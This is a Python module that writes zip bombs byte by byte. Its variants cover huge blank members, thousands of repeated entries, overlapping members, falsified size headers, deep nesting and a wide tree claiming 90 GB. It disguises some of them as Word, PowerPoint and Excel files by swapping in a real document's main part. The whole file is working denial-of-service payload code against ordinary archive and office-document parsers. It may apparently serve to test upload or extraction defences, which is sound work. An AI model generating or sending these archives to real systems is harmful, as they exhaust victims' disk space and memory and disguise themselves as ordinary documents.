"""Archives that are small to send and would fill a disk: blanks, packed a thousandfold.

The archives are written byte by byte, because no library writes one that lies. The blanks
are packed once, so that hundreds of bombs take seconds.
"""

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from functools import cache, partial
from pathlib import Path

MB = 1 << 20
_LOCAL, _CENTRAL, _END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
_STORED, _DEFLATED = 0, 8
_DAY = 0x21  # the first of 1980, in the way of MS-DOS

Bomb = Callable[[int], bytes]
"""Makes the bomb of a number; those of one kind differ in little more than it."""

TARGETS = {
    "docx": "word/document.xml",
    "pptx": "ppt/slides/slide1.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "zip": "report.txt",
}
"""Suffix of each kind of archive, and the member of it that is blown up."""


@dataclass(frozen=True, slots=True)
class Member:
    """A file in an archive, as it is packed.

    Attributes:
        claimed: the size that the archive gives for it.
        shared: its bytes are those of the member before it.
    """

    name: str
    packed: bytes
    claimed: int
    crc: int
    method: int = _DEFLATED
    shared: bool = False


Shells = Mapping[str, Path]
"""A sound file of each suffix but ``.zip``, to be blown up."""


@cache
def blanks(megabytes: int) -> tuple[bytes, int]:
    """Pack blanks; return them with their checksum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block, crc, packed = b" " * MB, 0, b""
    for _ in range(megabytes):
        packed += packer.compress(block)
        crc = zlib.crc32(block, crc)
    return packed + packer.flush(), crc


def blank_member(name: str, megabytes: int) -> Member:
    """Make a member of blanks."""
    packed, crc = blanks(megabytes)
    return Member(name, packed, megabytes * MB, crc)


def stored_member(name: str, data: bytes, *, pack: bool = False) -> Member:
    """Make a member of some bytes, packed or as they are."""
    size, crc = len(data), zlib.crc32(data)
    if not pack:
        return Member(name, data, size, crc, _STORED)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return Member(name, packer.compress(data) + packer.flush(), size, crc)


def archive(members: Sequence[Member], comment: str) -> bytes:
    """Write an archive; what it says of its members need not be true."""
    body, directory = bytearray(), bytearray()
    start = 0
    for one in members:
        name = one.name.encode()
        sizes = struct.pack("<3I2H", one.crc, len(one.packed), one.claimed, len(name), 0)
        if not one.shared:
            start = len(body)
            body += _LOCAL + struct.pack("<5H", 20, 0, one.method, 0, _DAY) + sizes
            body += name + one.packed
        directory += _CENTRAL + struct.pack("<6H", 20, 20, 0, one.method, 0, _DAY) + sizes
        directory += struct.pack("<3H2I", 0, 0, 0, 0, start) + name
    count = len(members)
    end = struct.pack("<4H2IH", 0, 0, count, count, len(directory), len(body), len(comment))
    return bytes(body + directory + _END + end) + comment.encode()


def huge(shells: Shells, suffix: str, number: int) -> bytes:
    """Make one member of 600 MB."""
    blown = blank_member(TARGETS[suffix], 600)
    return archive([*_shell(shells, suffix), blown], f"huge {number}")


def many(shells: Shells, suffix: str, number: int) -> bytes:
    """Make eleven thousand members of 50 kB."""
    target = TARGETS[suffix]
    first = stored_member(target, b"\n" * 50_000, pack=True)
    others = [replace(first, name=f"{n}/{target}") for n in range(11_000)]
    return archive([*_shell(shells, suffix), first, *others], f"many {number}")


def overlapping(shells: Shells, suffix: str, number: int) -> bytes:
    """Make a hundred members that are all the same 20 MB of the archive."""
    target = TARGETS[suffix]
    first = blank_member(target, 20)
    others = [replace(first, name=f"{n}/{target}", shared=True) for n in range(99)]
    return archive([*_shell(shells, suffix), first, *others], f"overlapping {number}")


def lying(shells: Shells, suffix: str, number: int) -> bytes:
    """Make a member of 600 MB that claims to hold next to nothing."""
    claimed = random.Random(number).randrange(1, 5000)
    blown = replace(blank_member(TARGETS[suffix], 600), claimed=claimed)
    return archive([*_shell(shells, suffix), blown], f"lying {number}")


def boasting(shells: Shells, suffix: str, number: int) -> bytes:
    """Make a member of a few bytes that claims to hold 4 GB."""
    blown = replace(stored_member(TARGETS[suffix], b"short"), claimed=0xFFFF_FFF0)
    return archive([*_shell(shells, suffix), blown], f"boasting {number}")


def deep(_shells: Shells, suffix: str, number: int) -> bytes:
    """Make an archive in an archive, and so on, twelve levels down to 90 MB of blanks."""
    data = archive([blank_member("report.txt", 90)], f"deep {number}")
    for _ in range(12):
        data = archive([stored_member(f"inner.{suffix}", data)], "")
    return data


def wide(_shells: Shells, suffix: str, number: int) -> bytes:
    """Make ten archives of ten of ten, each within the limits: 90 GB in a few kilobytes."""
    data = archive([blank_member("report.txt", 90)], f"wide {number}")
    for _ in range(3):
        inner = stored_member("", data, pack=True)
        data = archive([replace(inner, name=f"{n}.{suffix}") for n in range(10)], "")
    return data


def bombs(shells: Shells) -> list[tuple[str, Bomb]]:
    """Give the kinds of bombs: what their files are called, and what makes one of a number."""
    makers = (huge, many, overlapping, lying, boasting)
    kinds = [(make, suffix) for make in makers for suffix in TARGETS]
    kinds += [(deep, "zip"), (wide, "zip")]
    return [(f"{make.__name__}.{suffix}", partial(make, shells, suffix)) for make, suffix in kinds]


def _shell(shells: Shells, suffix: str) -> list[Member]:
    """Take a sound file apart but for the member that is to be blown up."""
    if suffix not in shells:
        return []
    with zipfile.ZipFile(shells[suffix]) as sound:
        names = [name for name in sound.namelist() if name != TARGETS[suffix]]
        return [stored_member(name, sound.read(name)) for name in names]
